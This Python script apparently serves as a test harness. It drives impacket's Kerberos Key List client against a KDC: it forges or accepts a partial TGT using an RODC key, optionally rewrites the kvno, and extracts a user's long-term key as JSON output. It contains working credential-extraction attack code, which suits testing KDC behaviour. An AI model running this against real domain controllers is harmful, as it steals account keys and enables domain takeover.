"""impacket's key-list client, put to a KDC at port 88 (fixed in impacket).

Standard input: {"realm", "kdc", "number", "rodcKey", "user", "ticket"?, "sessionKey"?, "kvno"?} (keys and ticket
in hex). Without a ticket impacket makes its own partial TGT; "kvno" then replaces the kvno that it wrote.
Standard output: {"key": "0x..." or null, "log": [...]}.
"""
import json
import logging
import sys

from impacket.examples.secretsdump import KeyListSecrets
from impacket.krb5 import constants
from impacket.krb5.asn1 import Ticket
from impacket.krb5.types import Principal
from pyasn1.codec.der import decoder

log = []


class Keep(logging.Handler):
    def emit(self, record):
        log.append(record.getMessage())


logging.getLogger().addHandler(Keep())
asked = json.load(sys.stdin)
user = Principal(asked["user"], type=constants.PrincipalNameType.NT_PRINCIPAL.value)
client = KeyListSecrets(asked["realm"], asked["kdc"], asked["number"], asked["rodcKey"])
if "ticket" in asked:
    ticket = decoder.decode(bytes.fromhex(asked["ticket"]), asn1Spec=Ticket())[0]
    session_key = bytes.fromhex(asked["sessionKey"])
else:
    ticket, made = client.createPartialTGT(user)
    session_key = bytes(made)
    if "kvno" in asked:
        ticket["enc-part"]["kvno"] = asked["kvno"]
key = None
try:
    reply = client.getFullTGT(user, ticket, session_key)
    if reply is not None:
        key = client.getKey(reply, session_key)
except Exception as error:
    log.append(str(error) or type(error).__name__)
print(json.dumps({"key": key, "log": log}))
